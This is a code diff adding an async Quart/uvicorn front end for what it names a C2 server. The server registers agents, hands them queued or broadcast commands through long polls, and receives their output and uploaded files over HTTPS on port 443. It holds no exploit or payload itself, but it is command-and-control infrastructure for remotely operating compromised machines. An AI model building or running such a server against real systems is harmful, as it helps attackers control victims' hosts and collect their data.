@@ -0,0 +1,367 @@
+### ASGI serving mode. Same server state as developementC2.py, served from an
+### event loop: run `python asgiC2.py` (uvicorn) instead of developementC2.py.
+###
+### Long polls, dashboard streams, exports and file downloads wait on the loop
+### rather than holding an OS thread each. Blocking SQLite and disk work runs on a
+### dedicated executor sized to the connection pool. Schedule, tag, transfer session,
+### /metrics and /api/* requests are handed to the Flask views on that executor, so both
+### front ends answer them with the same code, admission control included. Serve
+### create_app(config); the database and background threads start with the server,
+### not on import.
+
+import asyncio
+import json
+import os
+import time
+from concurrent.futures import ThreadPoolExecutor
+
+from quart import Quart, Request, request, jsonify, render_template, send_file, Response, g
+
+import developementC2 as c2
+
+class C2Request(Request):
+    # Body limits per route, as the Flask views set request.max_content_length:
+    # MAX_FILE_SIZE for command uploads, none elsewhere (Quart's default is 16MB)
+    def __init__(self, method, scheme, path, *args, **kwargs):
+        upload = path == '/command_all' or path.startswith('/command/')
+        kwargs['max_content_length'] = c2.MAX_FILE_SIZE if upload else None
+        super().__init__(method, scheme, path, *args, **kwargs)
+
+app = Quart(__name__)
+app.request_class = C2Request
+db_executor = None
+
+def create_app(config=None):
+    # Same config as developementC2.create_app
+    global db_executor
+    c2.create_app(config)
+    # One worker per pooled connection; callers queue here instead of in PoolTimeout
+    db_executor = ThreadPoolExecutor(max_workers=c2.DB_POOL_SIZE, thread_name_prefix='c2-db')
+    return app
+
+async def run_db(fn, *args):
+    return await asyncio.get_running_loop().run_in_executor(db_executor, fn, *args)
+
+async def wait_for_command(agent_id, timeout):
+    # Async long poll: park on an asyncio.Event that CommandQueue sets on publish
+    loop = asyncio.get_running_loop()
+    ready = asyncio.Event()
+    wake = lambda: loop.call_soon_threadsafe(ready.set)
+    if not c2.command_queue.watch(agent_id, wake):
+        return None
+    try:
+        deadline = loop.time() + timeout
+        while True:
+            # Clear before popping so a publish in between is not lost
+            ready.clear()
+            command = c2.command_queue.pop(agent_id)
+            remaining = deadline - loop.time()
+            if command or remaining <= 0:
+                return command
+            try:
+                await asyncio.wait_for(ready.wait(), remaining)
+            except asyncio.TimeoutError:
+                pass
+    finally:
+        c2.command_queue.unwatch(agent_id, wake)
+
+async def wait_for_result(seq, timeout):
+    # Async ResultWriter.wait: the writer wakes the loop after every batch
+    loop = asyncio.get_running_loop()
+    ready = asyncio.Event()
+    wake = lambda: loop.call_soon_threadsafe(ready.set)
+    c2.result_writer.watch(wake)
+    try:
+        deadline = loop.time() + timeout
+        while True:
+            ready.clear()
+            outcome = c2.result_writer.outcome(seq)
+            remaining = deadline - loop.time()
+            if outcome or remaining <= 0:
+                return outcome
+            try:
+                await asyncio.wait_for(ready.wait(), remaining)
+            except asyncio.TimeoutError:
+                pass
+    finally:
+        c2.result_writer.unwatch(wake)
+        c2.result_writer.forget(seq)
+
+def dispatch_flask(method, path, query_string, headers, body, remote_addr):
+    # Runs on db_executor
+    with c2.app.test_request_context(path, method=method, query_string=query_string, headers=headers,
+                                     data=body, environ_base={'REMOTE_ADDR': remote_addr}):
+        response = c2.app.full_dispatch_request()
+        return response.get_data(), response.status_code, list(response.headers.items())
+
+async def bridge():
+    body = await request.get_data()
+    data, status, headers = await run_db(dispatch_flask, request.method, request.path, request.query_string.decode(),
+                                         list(request.headers.items()), body, request.remote_addr)
+    return Response(data, status=status, headers=headers)
+
+# Bridged requests are timed by the Flask hooks inside dispatch_flask
+BRIDGED = {'schedule', 'tags', 'transfer', 'api', 'get_metrics'}
+
+# Every method some Flask /api/* view accepts
+API_METHODS = sorted({method for rule in c2.app.url_map.iter_rules() if rule.rule.startswith('/api/')
+                      for method in rule.methods} - {'HEAD', 'OPTIONS'})
+
+@app.before_request
+async def start_request_timer():
+    g.request_start = time.perf_counter()
+
+@app.after_request
+async def finish_request_timer(response):
+    if request.endpoint not in BRIDGED and 'request_start' in g:
+        c2.record_request(request.url_rule.rule if request.url_rule else 'unmatched', request.method,
+                          response.status_code, time.perf_counter() - g.request_start)
+    return response
+
+@app.before_request
+async def admit():
+    # Bridged requests are admitted by the Flask hooks inside dispatch_flask
+    kind = None if request.endpoint in BRIDGED else c2.request_class(request.endpoint, request.path)
+    if kind is None:
+        return None
+    rejected = c2.admit_request(kind, (request.view_args or {}).get('agent_id'), request.remote_addr)
+    if rejected:
+        body, status, headers = rejected
+        return jsonify(body), status, headers
+    g.admission = c2.admission
+    return None
+
+def release_slot():
+    granted = g.pop('admission', None)
+    if granted is not None:
+        granted.leave()
+
+@app.after_request
+async def release_after_request(response):
+    release_slot()
+    return response
+
+@app.teardown_request
+async def release_on_teardown(exc):
+    release_slot()
+
+# API Endpoints
+@app.route('/')
+async def dashboard():
+    return await render_template('developc2.html')
+
+@app.route('/register', methods=['POST'])
+async def register():
+    data = await request.get_json()
+    agent_id = await run_db(c2.register_agent, request.remote_addr, data.get('info', ''))
+    return jsonify({'agent_id': agent_id})
+
+@app.route('/checkin/<agent_id>', methods=['GET'])
+async def checkin(agent_id):
+    wait = c2.parse_wait(request.args.get('wait', 0))
+    if not c2.agent_registry.has(agent_id) and not await run_db(c2.agent_known, agent_id):
+        return jsonify({'error': 'Agent not found'}), 404
+
+    # In-memory only; the heartbeat buffer and queue locks are never held for long
+    seen = c2.heartbeats.beat(agent_id)
+    command = c2.command_queue.pop(agent_id)
+    if command is None and wait:
+        release_slot()
+        command = await wait_for_command(agent_id, wait)
+        c2.heartbeats.beat(agent_id)
+    if command is None:
+        # Empty polls never touch the database
+        return jsonify(c2.deliver_command(agent_id, None, seen))
+    return jsonify(await run_db(c2.deliver_command, agent_id, command, seen))
+
+@app.route('/result/<agent_id>', methods=['POST'])
+async def result(agent_id):
+    data = await request.get_json()
+    output = data.get('output', '')
+    is_file = data.get('is_file', False)
+    file = (await request.files).get('file') if is_file else None
+    timestamp = time.time()
+
+    file_path = None
+    if is_file and file:
+        file_path = await run_db(c2.save_uploaded_file, file, agent_id, 'download')
+
+    # Enqueueing never blocks; a durable=1 request waits on the loop, not on a DB worker
+    seq, response = c2.submit_result(agent_id, output, is_file, file_path, timestamp,
+                                     request.args.get('durable') == '1')
+    if response is None:
+        response = c2.stored_response(await wait_for_result(seq, c2.RESULT_DURABLE_TIMEOUT))
+    body, status, headers = response
+    return jsonify(body), status, headers
+
+async def read_command():
+    # (cmd, is_file, file, tag) from a /command or /command_all body, or an error response
+    if request.content_length and request.content_length > c2.MAX_FILE_SIZE:
+        return None, (jsonify({'error': 'File too large'}), 413)
+
+    data = await request.get_json()
+    cmd = data.get('command', '')
+    is_file = data.get('is_file', False)
+    tag = data.get('tag') or None
+    file = (await request.files).get('file') if is_file else None
+
+    if not cmd and not is_file:
+        return None, (jsonify({'error': 'No command or file provided'}), 400)
+    if tag is not None and not c2.valid_tag(tag):
+        return None, (jsonify({'error': 'Invalid tag'}), 400)
+    return (cmd, is_file, file, tag), None
+
+@app.route('/command/<agent_id>', methods=['POST'])
+async def send_command(agent_id):
+    parsed, error = await read_command()
+    if error:
+        return error
+    cmd, is_file, file, _ = parsed
+
+    file_path = None
+    if is_file and file:
+        file_path = await run_db(c2.save_uploaded_file, file, agent_id)
+
+    await run_db(c2.queue_command, agent_id, cmd, is_file, file_path)
+
+    return jsonify({'status': f'Command queued for {agent_id}'})
+
+@app.route('/command_all', methods=['POST'])
+async def send_to_all():
+    parsed, error = await read_command()
+    if error:
+        return error
+    cmd, is_file, file, tag = parsed
+
+    file_path = None
+    if is_file and file:
+        file_path = await run_db(c2.save_uploaded_file, file, None)
+
+    command_id, count = await run_db(c2.broadcast_command, cmd, is_file, file_path, tag)
+    return jsonify({
+        'status': f'Command sent to {count} agents',
+        'count': count,
+        'command_id': command_id,
+        'tag': tag
+    })
+
+@app.route('/tags/<path:target>', methods=['POST', 'DELETE'])
+async def tags(target):
+    return await bridge()
+
+@app.route('/schedule/<path:target>', methods=['POST', 'PUT', 'DELETE'])
+async def schedule(target):
+    return await bridge()
+
+@app.route('/transfer/<path:target>', methods=['GET', 'POST', 'PUT'])
+async def transfer(target):
+    # Session create, status and chunk PUTs; a chunk is at most its session's chunk_size
+    return await bridge()
+
+def find_transfer_data(transfer_id):
+    with c2.db_pool.connection() as conn:
+        return conn.execute("""SELECT f.filepath, f.filename FROM transfers t
+                               JOIN files f ON f.id = t.file_id
+                               WHERE t.id = ? AND t.status = 'complete'""",
+                            (transfer_id,)).fetchone()
+
+@app.route('/transfer/<transfer_id>/data', methods=['GET'])
+async def download_transfer(transfer_id):
+    file_info = await run_db(find_transfer_data, transfer_id)
+    if not file_info:
+        return jsonify({'error': 'File not found'}), 404
+    return await send_file(os.path.abspath(file_info['filepath']), as_attachment=True,
+                           attachment_filename=file_info['filename'], conditional=True)
+
+def find_download(file_id):
+    with c2.db_pool.connection() as conn:
+        return conn.execute("""SELECT filepath, filename FROM files
+                               WHERE id = ? AND direction = 'download'""",
+                            (file_id,)).fetchone()
+
+@app.route('/download/<int:file_id>', methods=['GET'])
+async def download_file(file_id):
+    file_info = await run_db(find_download, file_id)
+    if not file_info:
+        return jsonify({'error': 'File not found'}), 404
+
+    # Streamed from disk in blocks by Quart; conditional=True answers Range requests
+    return await send_file(os.path.abspath(file_info['filepath']), as_attachment=True,
+                           attachment_filename=file_info['filename'], conditional=True)
+
+@app.route('/api/events', methods=['GET'])
+async def event_feed():
+    stream = c2.events.subscribe(request.headers.get('Last-Event-ID') or request.args.get('last_event_id'))
+    if stream is None:
+        return jsonify({'error': 'Too many event streams'}), 503
+
+    loop = asyncio.get_running_loop()
+    ready = asyncio.Event()
+    stream.waker = lambda: loop.call_soon_threadsafe(ready.set)
+
+    async def generate():
+        try:
+            yield b"retry: 3000\n\n"
+            while not stream.closed:
+                ready.clear()
+                batch = stream.drain()
+                if not batch:
+                    try:
+                        await asyncio.wait_for(ready.wait(), c2.EVENT_KEEPALIVE)
+                    except asyncio.TimeoutError:
+                        yield b": keepalive\n\n"
+                    continue
+                yield ''.join(f"id: {e['id']}\nevent: {e['event']}\ndata: {json.dumps(e['data'])}\n\n"
+                              for e in batch).encode()
+        finally:
+            c2.events.unsubscribe(stream)
+
+    response = Response(generate(), mimetype='text/event-stream',
+                        headers={'Cache-Control': 'no-cache', 'X-Accel-Buffering': 'no'})
+    response.timeout = None  # stream until the client goes away
+    return response
+
+@app.route('/api/export/<kind>', methods=['GET'])
+async def export(kind):
+    if kind not in c2.EXPORTS:
+        return jsonify({'error': 'Unknown export'}), 404
+    try:
+        chunks, headers = c2.export_request(kind, request.args)
+    except ValueError as e:
+        return jsonify({'error': str(e)}), 400
+
+    async def generate():
+        # Each batch is read and encoded on the executor; the loop only forwards bytes
+        while True:
+            chunk = await run_db(next, chunks, None)
+            if chunk is None:
+                return
+            yield chunk
+
+    response = Response(generate(), headers=headers)
+    response.timeout = None  # an export runs as long as it has rows
+    return response
+
+@app.route('/metrics', methods=['GET'])
+async def get_metrics():
+    return await bridge()
+
+@app.route('/api/<path:name>', methods=API_METHODS)
+async def api(name):
+    return await bridge()
+
+@app.before_serving
+async def startup():
+    if db_executor is None:
+        create_app()
+    await run_db(c2.start_services)
+
+@app.after_serving
+async def shutdown():
+    db_executor.shutdown(wait=True)
+    c2.stop_services()
+
+if __name__ == '__main__':
+    import uvicorn
+    uvicorn.run(create_app(), host='0.0.0.0', port=443,
+                ssl_certfile='Requires valid cert for HTTPS.pem', ssl_keyfile='Requires valid cert for HTTPSkey.pem')